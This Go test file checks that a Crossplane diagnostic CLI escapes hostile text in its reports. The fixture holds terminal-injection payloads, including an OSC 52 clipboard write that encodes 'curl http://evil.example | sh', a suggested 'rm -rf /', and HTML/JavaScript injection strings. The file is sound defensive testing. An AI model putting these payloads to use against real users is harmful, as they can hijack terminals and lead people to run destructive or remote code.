package cmd

import (
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/yaml"

	"github.com/xpdoctor/xpdoctor/internal/testenv"
	"github.com/xpdoctor/xpdoctor/internal/testregistry"
	"github.com/xpdoctor/xpdoctor/pkg/xpkg/xpkgtest"
)

// hostileTexts are what anyone who can create Events (or write a
// package.yaml, or answer as a registry) can put in front of the on-call
// engineer: terminal control sequences, characters that reorder or hide
// text, and markdown or HTML that would render as something else.
var hostileTexts = []struct{ name, text string }{
	{"CSI clear screen", "\x1b[2J\x1b[3J\x1b[Hscreen cleared"},
	{"CSI rewrites a row", "boom\r\x1b[2K\x1b[1AProvider   provider-nop   True   True"},
	{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07pasted"},
	{"OSC 8 hyperlink", "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\"},
	{"C1 controls", "\u009b2J\u009d0;title\u009c\u0085next line"},
	{"bidi override", "\u202eexe.tset\u202c and \u2066isolated\u2069 \u200fmarks\u200e"},
	{"NUL and other C0", "a\x00b\x07c\x08d\x7fe\x0bf\x0cg"},
	{"newlines and tabs", "line one\nline two\r\n\tindented\tcell"},
	{"markdown heading", "# Heading\n## Another\nFix: run `rm -rf /`"},
	{"HTML", `<img src=x onerror="alert(1)"><script>alert(2)</script><a href="javascript:x">a</a>`},
	{"markdown table", "a | b | c\n|---|---|"},
	{"markdown code", "```\ncode block\n``` and `inline` and ``double``"},
	{"markdown link and image", "[click](javascript:alert(1)) ![img](http://evil.example/x.png)"},
	{"markdown list and quote", "- item\n> quote\n1. one\n+ plus\n---\n***"},
	{"HTML entities", "&lt;b&gt;bold&lt;/b&gt; &amp; &#x1b;"},
	{"emphasis", "*bold* _under_ ~~strike~~ \\*escaped\\*"},
}

// rawControl reports the first character a terminal would interpret: C0
// (but newline) and C1 controls, DEL, bidirectional controls and
// zero-width characters, and invalid UTF-8.
func rawControl(s string) (rune, bool) {
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			return r, true
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
			return r, true
		case r >= 0x200b && r <= 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x2028, r == 0x2029, r == 0xfeff, r == 0x061c:
			return r, true
		}
	}
	return 0, false
}

func obj(s string) map[string]any {
	var m map[string]any
	if err := yaml.Unmarshal([]byte(s), &m); err != nil {
		panic(err)
	}
	return m
}

// hostileObjects are a cluster whose Providers' Healthy conditions and
// Warning events carry the hostile texts. withNames adds a Provider whose
// name and package are hostile too (a dump can hold anything; an API
// server validates names).
func hostileObjects(withNames bool) []map[string]any {
	out := []map[string]any{
		obj("apiVersion: v1\nkind: Namespace\nmetadata: {name: crossplane-system}"),
		obj(`apiVersion: apps/v1
kind: Deployment
metadata: {name: crossplane, namespace: crossplane-system}
spec:
  selector: {matchLabels: {app: crossplane}}
  template:
    metadata: {labels: {app: crossplane}}
    spec: {containers: [{name: crossplane, image: "xpkg.crossplane.io/crossplane/crossplane:v2.3.4"}]}`),
	}
	provider := func(name, pkg, msg string) map[string]any {
		return map[string]any{"apiVersion": "pkg.crossplane.io/v1", "kind": "Provider", "metadata": map[string]any{"name": name},
			"spec": map[string]any{"package": pkg},
			"status": map[string]any{"conditions": []any{
				map[string]any{"type": "Installed", "status": "True", "reason": "ActivePackageRevision", "lastTransitionTime": "2026-11-27T05:00:00Z"},
				map[string]any{"type": "Healthy", "status": "False", "reason": "UnhealthyPackageRevision", "message": msg, "lastTransitionTime": "2026-11-27T05:00:00Z"},
			}}}
	}
	event := func(name, provider, msg string) map[string]any {
		return map[string]any{"apiVersion": "v1", "kind": "Event", "metadata": map[string]any{"name": name, "namespace": "default"},
			"involvedObject": map[string]any{"apiVersion": "pkg.crossplane.io/v1", "kind": "Provider", "name": provider},
			"type":           "Warning", "reason": "HostileText", "message": msg, "count": 3, "lastTimestamp": "2026-11-27T05:30:00Z",
			"firstTimestamp": "2026-11-27T05:00:00Z", "source": map[string]any{"component": "packages/provider.pkg.crossplane.io"}}
	}
	for i, h := range hostileTexts {
		name := fmt.Sprintf("provider-hostile-%02d", i)
		out = append(out, provider(name, "xpkg.upbound.io/upbound/"+name+":v1.0.0", h.text), event(name+".1", name, "event: "+h.text))
	}
	if withNames {
		out = append(out, provider("provider-\x1b[2J\u202ename|`#", "xpkg.upbound.io/upbound/p:v1\x1b]52;c;eA==\x07|`<b>", "name and package are hostile"))
	}
	return out
}

// hostileDump is the kubectl get -o json of hostileObjects: kubectl's -o
// yaml refuses DEL and C1 controls (sigs.k8s.io/yaml: "control characters
// are not allowed"), its -o json does not.
func hostileDump(t *testing.T) string {
	t.Helper()
	b, err := json.MarshalIndent(map[string]any{"apiVersion": "v1", "kind": "List", "items": hostileObjects(true)[1:]}, "", "    ")
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "dump.json")
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// checkHuman fails if a human format lets a control character through, or
// if markdown lets a hostile text render as markdown or HTML.
func checkHuman(t *testing.T, format, out string) {
	t.Helper()
	if r, bad := rawControl(out); bad {
		i := strings.IndexRune(out, r)
		t.Errorf("-o %s printed the raw control character %U: %q", format, r, out[max(0, i-40):min(len(out), i+40)])
	}
	if format != "markdown" {
		return
	}
	for n, line := range strings.Split(out, "\n") {
		// Code spans are inert: what they hold renders as text.
		text := codeSpan.ReplaceAllString(strings.ReplaceAll(line, "\\`", ""), "")
		switch {
		case strings.Contains(text, "<img") || strings.Contains(text, "<script") || strings.Contains(text, "<a href") || strings.Contains(text, "<b>"):
			t.Errorf("markdown line %d holds raw HTML: %q", n+1, line)
		case strings.HasPrefix(line, "#") && !strings.HasPrefix(line, "### xpdoctor") && !strings.HasPrefix(line, "#### `"):
			t.Errorf("markdown line %d is a heading a message made: %q", n+1, line)
		// 8 columns (Kind, Name, Installed, Healthy, Since, Package, Digest, Finding): 9 bars.
		case strings.HasPrefix(line, "|") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 9:
			t.Errorf("markdown table row %d has a cell a message split: %q", n+1, line)
		case strings.HasPrefix(line, "> ") || strings.HasPrefix(line, "1. ") || strings.HasPrefix(line, "+ ") || line == "---" || line == "***":
			t.Errorf("markdown line %d is a block a message made: %q", n+1, line)
		}
	}
}

// checkExact decodes JSON or YAML output and requires every hostile text,
// byte for byte, in its strings.
func checkExact(t *testing.T, format, out string) {
	t.Helper()
	var v any
	var err error
	if format == "json" {
		err = json.Unmarshal([]byte(out), &v)
	} else {
		err = yaml.Unmarshal([]byte(out), &v)
	}
	if err != nil {
		t.Fatalf("-o %s does not decode: %v", format, err)
	}
	var all []string
	var walk func(any)
	walk = func(x any) {
		switch x := x.(type) {
		case string:
			all = append(all, x)
		case []any:
			for _, e := range x {
				walk(e)
			}
		case map[string]any:
			for _, e := range x {
				walk(e)
			}
		}
	}
	walk(v)
	joined := strings.Join(all, "\n\x00\n")
	for _, h := range hostileTexts {
		if !strings.Contains(joined, h.text) {
			t.Errorf("-o %s does not hold %s exactly", format, h.name)
		}
	}
}

var codeSpan = regexp.MustCompile("`[^`]*`")

var humanFormats = map[string]bool{"table": true, "wide": true, "markdown": true}

// Hostile condition and event texts in every output format: golden files
// for what is printed, and the rules behind them checked on their own.
func TestHostileTextsDiagnose(t *testing.T) {
	pinClock(t)
	dump := hostileDump(t)
	for _, g := range []struct{ format, golden string }{
		{"table", "hostile-diagnose.txt"}, {"wide", "hostile-diagnose-wide.txt"}, {"markdown", "hostile-diagnose.md"},
		{"json", "hostile-diagnose.json"}, {"yaml", "hostile-diagnose.yaml"},
	} {
		t.Run(g.format, func(t *testing.T) {
			out, errOut, code := run(t, "--from-file", dump, "--inspect", "none", "-o", g.format)
			if code != ExitFindings {
				t.Fatalf("exit %d: %s", code, errOut)
			}
			out = strings.ReplaceAll(out, dump, "DUMP")
			golden(t, g.golden, out)
			if humanFormats[g.format] {
				checkHuman(t, g.format, out)
			} else {
				checkExact(t, g.format, out)
			}
		})
	}
}

// The same texts read from a real API server give the same report.
func TestHostileTextsFromAPIServer(t *testing.T) {
	pinClock(t)
	env := testenv.Start(t, false)
	var stream []string
	for _, o := range hostileObjects(false) {
		b, err := json.Marshal(o)
		if err != nil {
			t.Fatal(err)
		}
		stream = append(stream, string(b))
	}
	create(t, env.Config, strings.Join(stream, "\n"))
	for _, format := range []string{"table", "wide", "markdown", "json", "yaml"} {
		out, errOut, code := run(t, "--kubeconfig", env.Kubeconfig, "--inspect", "none", "-o", format)
		if code != ExitFindings {
			t.Fatalf("%s: exit %d: %s", format, code, errOut)
		}
		if humanFormats[format] {
			checkHuman(t, format, out)
		} else {
			checkExact(t, format, out)
		}
		if r, bad := rawControl(errOut); bad {
			t.Errorf("stderr printed %U", r)
		}
	}
}

// hostileRegistry serves a package whose package.yaml metadata is hostile,
// and answers every manifest of hostile/N with an error naming text N.
func hostileRegistry(t *testing.T) (host string, refs []string) {
	t.Helper()
	reg := testregistry.InProcess(t, func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			var n int
			if _, err := fmt.Sscanf(r.URL.Path, "/v2/hostile/%d/manifests/", &n); err == nil && n < len(hostileTexts) {
				msg, _ := json.Marshal(hostileTexts[n].text)
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(http.StatusNotFound)
				fmt.Fprintf(w, `{"errors":[{"code":"MANIFEST_UNKNOWN","message":%s}]}`, msg)
				return
			}
			next.ServeHTTP(w, r)
		})
	})
	// package.yaml holds texts a YAML reader accepts (no DEL or C1: Crossplane
	// would refuse those, as xpdoctor does): the metadata is shown.
	quoted := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	meta := fmt.Sprintf("apiVersion: meta.pkg.crossplane.io/v1\nkind: Provider\nmetadata:\n  name: %s\nspec:\n  crossplane:\n    version: %s\n  dependsOn:\n  - provider: %s\n    version: %s\n",
		quoted("provider-"+hostileTexts[0].text+hostileTexts[9].text), quoted(">=v1.14.0 "+hostileTexts[2].text), quoted("xpkg.upbound.io/x"+hostileTexts[5].text),
		quoted(hostileTexts[7].text+hostileTexts[8].text+hostileTexts[3].text))
	pkg := xpkgtest.Package{Kind: "Provider", Name: "provider-hostile", YAML: []byte(meta)}
	ref := reg.Host + "/upbound/provider-hostile:v1"
	if err := xpkgtest.Push(ref, pkg.Image(v1.Platform{OS: "linux", Architecture: "amd64"})); err != nil {
		t.Fatal(err)
	}
	refs = append(refs, ref)
	for i := range hostileTexts {
		refs = append(refs, fmt.Sprintf("%s/hostile/%d:v1", reg.Host, i))
	}
	return reg.Host, refs
}

func TestHostileTextsInspect(t *testing.T) {
	host, refs := hostileRegistry(t)
	for _, g := range []struct{ format, golden string }{
		{"table", "hostile-inspect.txt"}, {"wide", "hostile-inspect-wide.txt"}, {"json", "hostile-inspect.json"}, {"yaml", "hostile-inspect.yaml"},
	} {
		t.Run(g.format, func(t *testing.T) {
			out, errOut, code := run(t, append(append([]string{"inspect"}, refs...), "-o", g.format, "--crossplane-version", "v2.3.4")...)
			if code != ExitFindings {
				t.Fatalf("exit %d: %s", code, errOut)
			}
			golden(t, g.golden, strings.ReplaceAll(out, host, "REGISTRY"))
			if humanFormats[g.format] {
				checkHuman(t, g.format, out)
			} else {
				checkExact(t, g.format, out)
			}
		})
	}
}

// Errors on stderr and plain lines on stdout (mirror's plan) are escaped
// too, and a file name is outside text like any other.
func TestHostileTextsStderr(t *testing.T) {
	_, refs := hostileRegistry(t)
	dir := t.TempDir()
	for i, h := range hostileTexts {
		_, errOut, code := run(t, "--from-file", filepath.Join(dir, h.text), "-v", "9")
		if code != ExitError || !strings.Contains(errOut, "reading support dump") {
			t.Fatalf("exit %d: %q", code, errOut)
		}
		if r, bad := rawControl(errOut); bad {
			t.Errorf("%s: stderr printed %U: %q", h.name, r, errOut)
		}
		out, errOut, code := run(t, "mirror", refs[i+1], refs[0]+"-copy", "-v", "9")
		if code != ExitError || !strings.Contains(errOut, "MANIFEST_UNKNOWN") {
			t.Fatalf("mirror: exit %d: %q", code, errOut)
		}
		if r, bad := rawControl(out + errOut); bad {
			t.Errorf("%s: mirror printed %U: %q", h.name, r, errOut)
		}
	}
}

// A TLS failure whose text ends in a newline (Go's HTTPS server answers
// plain HTTP with "Client sent an HTTP request to an HTTPS server.\n")
// leaves the table whole: no blank lines inside it, every verdict row in
// its columns.
func TestTLSErrorKeepsTheTableIntact(t *testing.T) {
	s := httptest.NewTLSServer(http.NotFoundHandler())
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	t.Cleanup(s.Close)
	ref := strings.TrimPrefix(s.URL, "https://") + "/upbound/provider-nop:v1"
	for _, format := range []string{"table", "wide"} {
		out, errOut, code := run(t, "inspect", ref, "-o", format)
		if code != ExitFindings || !strings.Contains(out, "RegistryTLSUntrusted") || !strings.Contains(out, "Client sent an HTTP request to an HTTPS server.") {
			t.Fatalf("%s: exit %d\n%s\n%s", format, code, out, errOut)
		}
		lines := strings.Split(out, "\n")
		for i, l := range lines {
			if !strings.HasPrefix(l, "CROSSPLANE") {
				continue
			}
			col := strings.Index(l, "OUTCOME")
			for j, gen := range []string{"v1.13", "v1.14-v1.20", "v2.0-v2.1", "v2.2+"} {
				row := lines[i+1+j]
				if !strings.HasPrefix(row, gen+" ") || strings.Index(row, "Fail") != col {
					t.Errorf("%s: verdict row %d is out of its columns:\n%s\n%s", format, j+1, l, row)
				}
			}
		}
		for i := 1; i < len(lines); i++ {
			if next := lines[i]; lines[i-1] == "" && (strings.HasPrefix(next, "v1") || strings.HasPrefix(next, "v2") || strings.HasPrefix(next, " ")) {
				t.Errorf("%s: a blank line inside a table, before %q", format, next)
			}
		}
	}
}

// Preflight's table and a report of several clusters escape what they
// quote: package names and references from a dump, kubeconfig context
// names and the errors that quote them.
func TestHostileTextsPreflightAndClusters(t *testing.T) {
	dump := hostileDump(t)
	for _, format := range []string{"table", "wide"} {
		out, errOut, code := run(t, "preflight", "--from-file", dump, "--to", "v2.3.4", "-o", format, "--timeout", "30s")
		if code == ExitOK || out == "" {
			t.Fatalf("preflight -o %s: exit %d: %s", format, code, errOut)
		}
		checkHuman(t, "preflight "+format, out)
		checkHuman(t, "preflight stderr", errOut)
	}
	out, _, _ := run(t, "preflight", "--from-file", dump, "--to", "v2.3.4", "-o", "json", "--timeout", "30s")
	var v any
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatalf("preflight -o json does not decode: %v", err)
	}
	if r, bad := rawControl(out); bad {
		t.Errorf("preflight -o json holds the raw control character %U", r)
	}

	hostile := "prod\x1b[2J\u202e"
	kubeconfig := fleetKubeconfig(t, map[string]*rest.Config{hostile: nil, "other": nil})
	for _, args := range [][]string{{"--all-contexts"}, {"preflight", "--to", "v2.3.4", "--all-contexts"}} {
		out, errOut, code := run(t, append(args, "--kubeconfig", kubeconfig, "--timeout", "30s")...)
		if code != ExitError || !strings.Contains(out, `prod\x1b[2J\u202e`) {
			t.Errorf("%v: exit %d, the context name is not shown escaped:\n%s", args, code, out)
		}
		checkHuman(t, strings.Join(args, " "), out)
		checkHuman(t, strings.Join(args, " ")+" stderr", errOut)
	}
}
